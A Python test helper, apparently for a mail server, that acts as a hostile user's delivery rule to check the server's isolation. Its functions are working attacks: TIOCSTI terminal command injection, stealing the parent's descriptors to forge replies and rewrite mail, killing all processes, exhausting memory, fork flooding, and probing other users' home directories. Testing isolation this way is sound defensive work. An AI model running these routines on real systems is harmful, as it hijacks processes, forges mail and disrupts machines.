"""evil_program: what a hostile user's rule runs: `evil_program.py WHAT`, as that user.

It needs nothing but Python. A user may trace the own processes, so it takes over the
process that runs it: it takes that one's descriptors (pidfd_getfd(2)), sends on its
channel to the worker, writes to the message that others get too, stops it, kills it.
"""

from __future__ import annotations

import ctypes
import fcntl
import os
import signal
import socket
import sys
import time

PIDFD_GETFD = 438
CHANNEL = 3


def main(what: str) -> None:
    """Do one evil thing."""
    {
        "terminal": type_into_terminal,
        "garbage": lambda: answer(b"garbage"),
        "nesting": lambda: answer(b"[" * 3000),
        "classes": lambda: answer(b"250 5.1.1 x"),
        "flood": flood,
        "too early": lambda: [answer(b"250 2.0.0 done") for _ in range(50)],
        "close": lambda: stolen(CHANNEL).shutdown(socket.SHUT_RDWR),
        "tamper": tamper,
        "stop": lambda: os.kill(os.getppid(), signal.SIGSTOP),
        "kill": lambda: os.kill(os.getppid(), signal.SIGKILL),
        "kill everybody": kill_everybody,
        "memory": take_memory,
        "fork": fork_a_lot,
        "sleep": lambda: time.sleep(600),
        "linger": linger,
        "other homes": look_into_other_homes,
    }[what]()


def type_into_terminal() -> None:
    """Type a command into the terminal of whoever started the server (TIOCSTI)."""
    for path in ("/dev/tty", *(f"/proc/{os.getppid()}/fd/{number}" for number in range(3))):
        try:
            terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
            for byte in b"touch /tmp/typed-by-evil\n":
                fcntl.ioctl(terminal, 0x5412, bytes([byte]))
        except OSError:
            continue


def stolen_fd(number: int) -> int:
    """A descriptor of the process that runs this one."""
    libc = ctypes.CDLL(None, use_errno=True)
    return int(libc.syscall(PIDFD_GETFD, os.pidfd_open(os.getppid()), number, 0))


def stolen(number: int) -> socket.socket:
    return socket.socket(fileno=stolen_fd(number))


def answer(data: bytes) -> None:
    """Answer in place of the process."""
    stolen(CHANNEL).send(data)


def flood() -> None:
    channel = stolen(CHANNEL)
    for _ in range(100_000):
        channel.send(b"250 2.0.0 " + b"x" * 4000)


def tamper() -> None:
    """Change the message in every open file of the process, in every way."""
    for number in range(4, 64):
        fd = stolen_fd(number)
        if fd < 0:
            continue
        for path in (None, f"/proc/self/fd/{fd}", f"/proc/{os.getppid()}/fd/{number}"):
            try:
                target = fd if path is None else os.open(path, os.O_RDWR)
                os.ftruncate(target, 0)
                os.pwrite(target, b"Subject: forged\n\nforged\n", 0)
            except OSError:
                continue


def kill_everybody() -> None:
    for pid in (int(name) for name in os.listdir("/proc") if name.isdigit()):
        if pid not in (os.getpid(), os.getppid(), 1):
            for number in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(pid, number)
                except OSError:
                    continue


def take_memory() -> None:
    """Far more than the limit of a process."""
    blocks = []
    while len(blocks) < 64:
        blocks.append(bytearray(64 * 1024 * 1024))


def fork_a_lot() -> None:
    """As many as there may be; they end by themselves."""
    for _ in range(500):
        try:
            if os.fork() == 0:
                time.sleep(3)
                os._exit(0)
        except OSError:
            time.sleep(0.01)


def linger() -> None:
    if os.fork() == 0:
        time.sleep(600)
        os._exit(0)


def look_into_other_homes() -> None:
    """Try to read, to write and to make links in the others' homes."""
    homes = os.path.dirname(os.environ["HOME"])
    for name in os.listdir(homes):
        for path in (f"{homes}/{name}/Maildir/new", f"{homes}/{name}/Maildir", f"{homes}/{name}"):
            if name != os.path.basename(os.environ["HOME"]):
                for attempt in (
                    lambda path=path: os.listdir(path),
                    lambda path=path: os.mknod(f"{path}/evil"),
                    lambda path=path: os.symlink("/etc/passwd", f"{path}/link"),
                ):
                    try:
                        attempt()
                        os.mknod(f"{os.environ['HOME']}/succeeded")
                    except OSError:
                        continue


if __name__ == "__main__":
    main(sys.argv[1])
